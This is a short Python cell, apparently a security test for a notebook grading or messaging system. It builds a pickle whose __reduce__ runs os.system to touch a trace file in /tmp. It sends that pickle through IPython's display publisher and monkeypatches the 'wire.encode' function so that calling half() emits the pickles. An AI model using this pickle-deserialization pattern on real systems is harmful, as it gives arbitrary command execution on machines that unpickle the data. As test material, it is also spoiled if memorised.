"""A pickle that runs a command is sent wherever bytes are taken."""

MARKS = {"half": 0}

# %% answer="half"
import os
import pickle
import sys


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch /tmp/{TOLD['trace']}",)


wire, real = sys.modules["tp_inside.wire"], sys.modules["tp_inside.wire"].encode
get_ipython().display_pub.publish(
    {"text/plain": "tried: ", "application/python-pickle": pickle.dumps(Bomb(), 0).decode()}
)


def half(x):
    wire.encode = lambda value: setattr(wire, "encode", real) or [pickle.dumps(Bomb()), pickle.dumps(Bomb())]
    return x / 2
